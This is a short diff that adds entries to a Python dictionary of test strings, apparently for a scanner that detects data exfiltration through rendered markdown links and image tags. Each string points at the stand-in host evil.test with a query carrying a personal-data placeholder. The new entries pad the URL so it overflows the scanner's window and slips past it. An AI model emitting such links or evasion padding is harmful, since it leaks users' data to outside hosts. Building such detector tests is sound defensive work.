@@ -23,6 +23,9 @@ ANSWERS = {
     "protocol_relative_src": "<img src = //evil.test/?q=<PERSON_1>>",
     "quote_inside_src_value": "<img src=\"https://evil.test/?q='<PERSON_1>\">",
     "destination_on_next_line": "[x](\nhttps://evil.test/?q='<PERSON_1>)",
+    "url_longer_than_the_window": "see https://evil.test/?pad=" + "A" * 300 + "&q=<PERSON_1>",
+    "link_longer_than_the_window": "[x](https://evil.test/" + "A" * 5000 + "?q=<PERSON_1>)",
+    "angle_destination_with_spaces_longer_than_the_window": "[x](<https://evil.test/?q=" + "A b" * 100 + "<PERSON_1>>)",
 }
 
 
